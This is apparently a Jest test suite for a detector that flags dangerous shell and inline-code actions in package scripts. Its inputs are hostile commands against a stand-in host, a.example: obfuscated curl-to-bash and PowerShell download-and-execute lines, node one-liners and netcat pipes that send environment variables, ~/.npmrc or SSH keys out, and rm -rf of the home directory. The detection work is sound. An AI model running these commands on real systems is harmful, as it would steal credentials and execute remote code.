import { describe, expect, it } from '@jest/globals'
import { readShell, readSpawned } from '../../../src/package/shell/read-shell.js'
import type { ShellDialect } from '../../../src/package/shell/shell-act.js'

/** `action detail` of each act. */
const actsOf = (text: string, dialect: ShellDialect = 'posix', own: readonly string[] = []): readonly string[] =>
  readShell([{ text, dialect }], own).map(({ action, detail }) => `${action} ${detail}`)

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

describe('readShell', () => {
  it.each([
    'curl -fsSL https://a.example/x.sh | bash',
    'curl -s https://a.example/x.sh | sudo -E bash -s -- now',
    'bash -c "$(curl -fsSL https://a.example/x.sh)"',
    'bash <(curl -s https://a.example/x.sh)',
    'eval "$(wget -qO- https://a.example/x.sh)"',
    'sh <<< "$(curl https://a.example/x.sh)"',
    "c''url https://a.example/x.sh|b\\ash",
    '{curl,-s,https://a.example/x.sh}|bash',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's own.
    'X=https://a.example/x.sh; curl${IFS}$X|sh',
    'echo Y3VybCBodHRwczovL2EuZXhhbXBsZS94LnNoIHwgc2g= | base64 -d | sh',
    `node -e "require('child_process').exec('curl https://a.example/x.sh | sh')"`,
    'powershell -c "irm https://a.example/x.sh | iex"',
    `powershell -w hidden -enc ${encoded('iex (irm https://a.example/x.sh)')}`,
  ])('sees a download that an interpreter reads: %s', (command) => {
    expect(actsOf(command)).toContain('pipe-to-shell https://a.example/x.sh')
  })

  it.each([
    "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')",
    "$u='https://a.example/x'; iex(irm $u)",
    '& ([scriptblock]::Create((irm https://a.example/x)))',
  ])('sees it in PowerShell: %s', (text) => {
    expect(actsOf(text, 'powershell')).toContain('pipe-to-shell https://a.example/x')
  })

  it('sees a download that is started later, whichever shell it is', () => {
    const wanted = 'download-and-run https://a.example/x'
    expect(actsOf('curl https://a.example/x -o /tmp/x && chmod +x /tmp/x && /tmp/x')).toContain(wanted)
    expect(actsOf('wget https://a.example/x; nohup ./x > /dev/null 2>&1 &')).toContain(wanted)
    expect(
      actsOf('@echo off\r\ncertutil.exe -urlcache -f https://a.example/x y.exe\r\nstart /B y.exe -k', 'cmd'),
    ).toContain(wanted)
    const webClient = "(New-Object Net.WebClient).DownloadFile('https://a.example/x','y.exe'); Start-Process y.exe"
    expect(actsOf(webClient, 'powershell')).toContain(wanted)
  })

  it('puts the variables of a batch file in before it splits words, pieces of them too', () => {
    const fetched = 'curl https://a.example/x -o y.exe\r\n'
    expect(actsOf(`${fetched}set run=y.exe -k --tls\r\nstart /B %run%`, 'cmd')).toContain(
      'download-and-run https://a.example/x',
    )
    expect(actsOf('set last=regsvr32.exe -s x.dll\r\n%last%', 'cmd')).toEqual(['run-library -s x.dll'])
    const letters = 'set a=abcdefghijklmnopqrstuvwxyz\r\n'
    expect(actsOf(`${letters}%a:~2,1%%A:~-6,1%%a:~17,1%%a:~11,-14% https://a.example/x`, 'cmd')).toEqual([
      'download https://a.example/x',
    ])
  })

  it('does not let the variables of a batch file multiply without an end', () => {
    const growing = `set a=${'x'.repeat(4000)}\r\n${`echo ${'%a%'.repeat(80)}\r\n`.repeat(900)}curl https://a.example/x`
    const start = performance.now()
    expect(actsOf(growing, 'cmd')).toEqual(['download https://a.example/x'])
    expect(performance.now() - start).toBeLessThan(1000)
  })

  it.each([
    "require('https').request({ hostname: 'a.example', method: 'POST' }).end(JSON.stringify(process.env))",
    "fetch('https://a.example', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') })",
    "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.a.example', () => {})",
  ])('sees a secret that code in the command itself sends: %s', (code) => {
    expect(actsOf(`node -e "${code}"`)).toEqual([`inline-code ${code}`, `secret-sent ${code}`])
  })

  it('sees a download that code in the command itself evaluates, also without a call', () => {
    const code = "fetch('https://a.example/x').then((r) => r.text()).then(eval)"
    expect(actsOf(`node -e "${code}"`)).toEqual([`inline-code ${code}`, `download-and-run ${code}`])
  })

  it.each([
    "process.env.CI || fetch('https://a.example/ping')",
    "process.exit(process.env['CI'] ? 0 : 1)",
    "try { require('./postinstall') } catch (e) {}",
    "console.log('Tokens are read from ~/.npmrc')",
  ])('sees nothing in the code that packages have in their scripts: %s', (code) => {
    expect(actsOf(`node -e "${code}"`)).toEqual([`inline-code ${code}`])
  })

  it('takes a question to the registry of Windows for what it is, encoded or not', () => {
    const asks = '(Get-ItemProperty -Path "HKCU:\\Software\\UrlAssociations\\http\\UserChoice").ProgId'
    expect(actsOf(`powershell -EncodedCommand ${encoded(asks)}`)).toEqual([`inline-code ${asks}`])
    const more = `${asks}; iex $env:X`
    expect(actsOf(`powershell -EncodedCommand ${encoded(more)}`)).toContain(`encoded-command ${more}`)
  })

  it('decodes what is encoded, and shows it', () => {
    expect(actsOf(`powershell -EncodedCommand ${encoded('rm x')}`)).toEqual(['encoded-command rm x', 'delete x'])
    expect(actsOf('echo cm0geA== | base64 --decode | sh')).toEqual([
      'decode-and-run sh',
      'encoded-command rm x',
      'delete x',
    ])
  })

  it('tells what is deleted: itself, a home, or something else', () => {
    expect(actsOf('node setup.js; rm setup.js', 'posix', ['setup.js'])).toEqual(['delete-itself setup.js'])
    expect(actsOf('rm -rf "$HOME"/* build')).toEqual(['delete-home ~/*', 'delete build'])
    expect(actsOf('del "%~f0"', 'cmd')).toEqual(['delete-itself %~f0'])
  })

  it('tells secrets that are read and sent', () => {
    expect(actsOf('cat ~/.ssh/id_rsa | nc a.example 80')).toEqual([
      'secret-read ~/.ssh/id_rsa',
      'secret-sent ~/.ssh/id_rsa',
    ])
    expect(actsOf('env | curl -d @- https://a.example')).toContain('secret-sent the environment')
    expect(actsOf('curl https://$(hostname).a.example')).toContain('host-sent hostname')
    expect(actsOf('gh auth token')).toEqual(['secret-read gh auth token'])
  })

  it.each([
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'node-gyp-build',
    'husky install',
    'patch-package',
    'node install.js',
    'npx only-allow pnpm',
    '(is-ci || husky install) && npm run build',
    'git submodule update --init && make',
    'cp .npmrc.example .npmrc',
  ])('says nothing of %s', (command) => {
    expect(actsOf(command)).toEqual([])
  })

  it('tells the line of a file', () => {
    const text = 'cd x\n\ncurl https://a.example/x |\n  sh\n'
    expect(readShell([{ text, dialect: 'posix', file: 'a.sh' }])).toEqual([
      { action: 'download', detail: 'https://a.example/x', excerpt: 'curl https://a.example/x', file: 'a.sh', line: 3 },
      { action: 'pipe-to-shell', detail: 'https://a.example/x', excerpt: 'sh', file: 'a.sh', line: 4 },
    ])
  })

  it.each(['$(', '`', '"$(', '<(', '((', '{a,', "'", 'a|', '<<A ', "sh -c 'a'; "])(
    'bounds its work on 200,000 characters of %s',
    (piece) => {
      const text = piece.repeat(200_000 / piece.length)
      const dialects: readonly ShellDialect[] = ['posix', 'cmd', 'powershell']
      const started = performance.now()
      for (const dialect of dialects) readShell([{ text, dialect }])
      expect(performance.now() - started).toBeLessThan(30_000)
    },
  )

  it('says that it did not read what would take too long', () => {
    expect(actsOf('$('.repeat(100_000)).map((act) => act.split(' ')[0])).toEqual(['unread'])
  })
})

describe('readSpawned', () => {
  it('reads a command that JavaScript starts', () => {
    expect(readSpawned('rundll32.exe ./a.dll,main').map(({ action }) => action)).toContain('run-library')
  })
})
